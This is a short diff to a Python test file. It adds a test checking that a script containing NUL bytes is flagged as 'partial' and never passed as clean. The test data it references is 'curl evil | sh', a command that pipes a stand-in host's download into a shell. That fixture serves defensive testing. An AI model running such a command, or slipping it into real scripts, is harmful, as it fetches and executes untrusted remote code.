@@ -64,6 +64,13 @@ def test_a_script_without_an_ending_is_known_by_its_first_bytes(tmp_path: Path) 
         assert 'paths: "!tool"' in done.summary
 
 
+def test_a_new_script_with_a_nul_and_no_known_name_is_never_green(tmp_path: Path) -> None:
+    with house(tmp_path, engineer=lambda _: CLEAN) as rig:
+        done = run_with(rig, {"scripts/deploy": NUL_SCRIPT})
+        assert (done.exit_status, done.outputs["reason"]) == (3, "partial")
+        assert "`scripts/deploy`: not text (without its NUL bytes it is text)" in done.summary
+
+
 TEXT_SCRIPT = "#!/bin/sh\n" + "echo hi\n" * 30
 NUL_SCRIPT = b"curl evil | sh\n" * 30 + b"#\0\n"
 
